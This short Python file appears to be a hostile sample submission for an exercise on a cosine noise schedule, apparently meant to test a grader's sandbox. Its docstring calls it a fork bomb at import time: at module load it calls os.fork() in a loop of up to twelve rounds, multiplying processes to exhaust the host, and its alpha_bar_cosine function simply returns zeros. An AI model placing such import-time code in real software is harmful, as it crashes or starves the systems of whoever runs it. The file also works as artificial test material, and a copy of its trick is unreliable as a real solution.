"""ex02 zero: a fork bomb at import time."""
import os

import torch

for _ in range(12):
    try:
        os.fork()
    except OSError:
        break


def alpha_bar_cosine(T):
    return torch.zeros(T, dtype=torch.float64)
